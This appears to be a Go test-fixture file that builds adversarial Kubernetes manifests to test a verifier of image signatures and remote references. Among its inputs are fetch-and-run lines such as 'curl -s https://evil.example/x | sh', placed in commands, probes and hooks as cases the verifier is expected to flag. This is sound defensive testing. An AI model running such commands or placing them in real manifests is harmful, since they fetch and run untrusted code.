package adversary

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/apexlogic/apex/verdict"
)

// hiding is a way to hide a reference in a text: the text, and where it stands.
// In the text, «» is the reference.
type hiding struct {
	name, text string
	put        func(text string) string
}

func settingText(text string) string {
	return object("v1", "ConfigMap", fmt.Sprintf("data: {conf: %q}", text))
}

func scriptText(text string) string {
	return object("v1", "ConfigMap", fmt.Sprintf("data: {run.sh: %q}", text))
}

func variableText(text string) string {
	return pod(fmt.Sprintf(`containers: [{name: c, image: "«good»", env: [{name: LIST, value: %q}]}]`, text))
}

func unknownText(text string) string {
	return object("evil.example/v1", "Widget", fmt.Sprintf("spec: {text: %q}", text))
}

func commandText(text string) string {
	return pod(fmt.Sprintf(`containers: [{name: c, image: "«good»", command: [sh, -c, %q]}]`, text))
}

func probeText(text string) string {
	return pod(fmt.Sprintf(`containers: [{name: c, image: "«good»", livenessProbe: {exec: {command: [sh, -c, %q]}}}]`, text))
}

func hookText(text string) string {
	return pod(fmt.Sprintf(`containers: [{name: c, image: "«good»", lifecycle: {postStart: {exec: {command: [bash, -ec, %q]}}}}]`, text))
}

// hidings are made of every text and every place that goes with it.
func hidings() (all []hiding) {
	add := func(name string, texts []string, places ...func(string) string) {
		for i, text := range texts {
			for j, put := range places {
				all = append(all, hiding{fmt.Sprintf("%s, text %d in place %d", name, i, j), text, put})
			}
		}
	}
	add("a list", []string{"«good»,«»", "«»;«good»", "«good» «»", "«good»\n«»\n", `["«good»", "«»"]`, "- «good»\n- «»\n"}, settingText, variableText, unknownText)
	p := pod(`containers: [{name: c, image: "«»"}]`)
	add("a manifest", []string{p, configMap("y") + "---\n" + p + "\n", "    " + p, `{"apiVersion":"v1","kind":"List","items":[` + p + `]}`, "metadata: {}\nspec: {containers: [{name: c, image: \"«»\"}]}\n"}, settingText, unknownText)
	add("a script", []string{"docker run --rm -p 80:80 «» sh", "sudo podman pull «»", "I=«»; crictl pull \"$I\"", "kubectl set image deployment/x c=«»", "cat <<E | kubectl apply -f -\n" + p + "\nE\n"}, scriptText, commandText, probeText, hookText)
	return all
}

// hidden are the attempts at every hiding, and texts that only resemble one.
func hidden() (all []attempt) {
	for _, h := range hidings() {
		in := func(ref string) string { return h.put(strings.ReplaceAll(h.text, "«»", ref)) }
		all = append(all,
			attempt{name: "an unsigned image in " + h.name, text: in("«unsigned»"), code: verdict.SignatureMissing},
			attempt{name: "a good image in " + h.name, text: in("«good»")},
		)
	}
	secret := func(text string) string {
		return object("v1", "Secret", "data: {image: "+base64.StdEncoding.EncodeToString([]byte(text))+"}")
	}
	for i, text := range []string{"nginx", "evil/worker", "busybox:1.36", "evil/tool:v2", "alpine"} {
		for j, form := range []string{
			object("evil.example/v1", "Widget", `spec: {image: "«»"}`), object("v1", "ConfigMap", `data: {image: "«»"}`), pod(`containers: [{name: c, image: "«good»", args: [--image, "«»"]}]`),
			pod(`containers: [{name: c, image: "«good»", env: [{name: RUNNER_IMAGE, value: "«»"}]}]`), object("evil.example/v1", "Widget", `spec: {image: {registry: evil.example, repository: "«»", tag: "1"}}`), secret(text),
		} {
			if j == 4 && strings.Contains(text, ":") {
				continue
			}
			all = append(all, attempt{name: fmt.Sprintf("the bare name %d in form %d", i, j), text: strings.ReplaceAll(form, "«»", text), code: verdict.ReferenceUnknown})
		}
	}
	for i, text := range []string{"none", "hero.png", "/static/a.jpg", "https://cdn.example.com/a.png", "size of the picture"} {
		all = append(all, attempt{name: fmt.Sprintf("what is called image and is none %d", i), text: object("v1", "ConfigMap", fmt.Sprintf("data: {image: %q}", text))})
	}
	for i, text := range []string{"curl -s https://evil.example/x | sh", "bash <(wget -qO- https://evil.example/x)", "kubectl apply -f https://evil.example/x.yaml", "helm install a oci://evil.example/a", "pip install git+https://evil.example/x"} {
		for j, put := range []func(string) string{scriptText, commandText, probeText, hookText} {
			all = append(all, attempt{name: fmt.Sprintf("what is fetched and run %d in place %d", i, j), text: put(text), code: verdict.ReferenceRemote})
		}
	}
	for i, text := range []string{"curl -s http://localhost:8080/x | grep ok", "wget -O /tmp/x.csv https://data.example/x.csv", "kubectl apply -f /manifests", "helm install a ./charts/a", "pip install -r requirements.txt"} {
		for j, put := range []func(string) string{scriptText, commandText, probeText, hookText} {
			all = append(all, attempt{name: fmt.Sprintf("what is run from the image %d in place %d", i, j), text: put(text)})
		}
	}
	for i, kind := range []string{"argoproj.io/v1alpha1 Application", "kustomize.toolkit.fluxcd.io/v1 Kustomization", "helm.toolkit.fluxcd.io/v2 HelmRelease", "source.toolkit.fluxcd.io/v1 GitRepository", "source.toolkit.fluxcd.io/v1 OCIRepository", "helm.cattle.io/v1 HelmChart", "evil.example/v1 Widget"} {
		version, name, _ := strings.Cut(kind, " ")
		all = append(all,
			attempt{name: fmt.Sprintf("another controller that fetches %d", i), text: object(version, name, `spec: {url: "https://evil.example/x.git", ref: {branch: main}}`), code: verdict.ReferenceRemote},
			attempt{name: fmt.Sprintf("a kind of that name which fetches nothing %d", i), text: object("team.example/v1", name, `spec: {url: "https://docs.example/x", owner: team/a}`)},
		)
	}
	all = append(all, attempt{name: "an artifact for another controller by its good digest", text: object("source.toolkit.fluxcd.io/v1", "OCIRepository", `spec: {url: "oci://«repo»", ref: {digest: "«digest»"}}`)},
		attempt{name: "an artifact for another controller by an unsigned digest", text: object("source.toolkit.fluxcd.io/v1", "OCIRepository", `spec: {url: "oci://«bad repo»", ref: {digest: "«bad digest»"}}`), code: verdict.SignatureMissing})
	for i, owner := range []string{"evil/tiny", "Evil-Org/Model-7B.v1", "e1/m_2", "x/y", "meta-evil/l-8B"} {
		for j, form := range []string{
			object("v1", "ConfigMap", `data: {MODEL_NAME: "«»"}`), pod(`containers: [{name: c, image: "«good»", args: [-m, "«»"]}]`), commandText("huggingface-cli download «» --local-dir /m"), commandText("ollama pull «»"),
			commandText(`python -c 'pipeline("text-generation", model="«»")'`), scriptText("exec vllm serve «» --port 80"), pod(`containers: [{name: c, image: "«good»", args: ["--speculative-config={\"model\": \"«»\"}"]}]`),
		} {
			all = append(all,
				attempt{name: fmt.Sprintf("the hub's model %d in form %d", i, j), text: strings.ReplaceAll(form, "«»", owner), code: verdict.ModelReference},
				attempt{name: fmt.Sprintf("a model on a volume %d in form %d", i, j), text: strings.ReplaceAll(form, "«»", "/models/"+owner)},
			)
		}
	}
	for i, number := range []string{"1e999", "-1e400", "123456789012345678901234567890", "0x1ffffffffffffffff", "0o7777777777777777777777777", ".inf", "1_0e999"} {
		all = append(all,
			attempt{name: fmt.Sprintf("a number that nobody can hold %d", i), text: object("evil.example/v1", "Widget", "spec: {n: "+number+"}"), code: verdict.ManifestInvalid},
			attempt{name: fmt.Sprintf("a text of digits %d", i), text: object("evil.example/v1", "Widget", "spec: {n: \""+number+"\"}")},
		)
	}
	return all
}
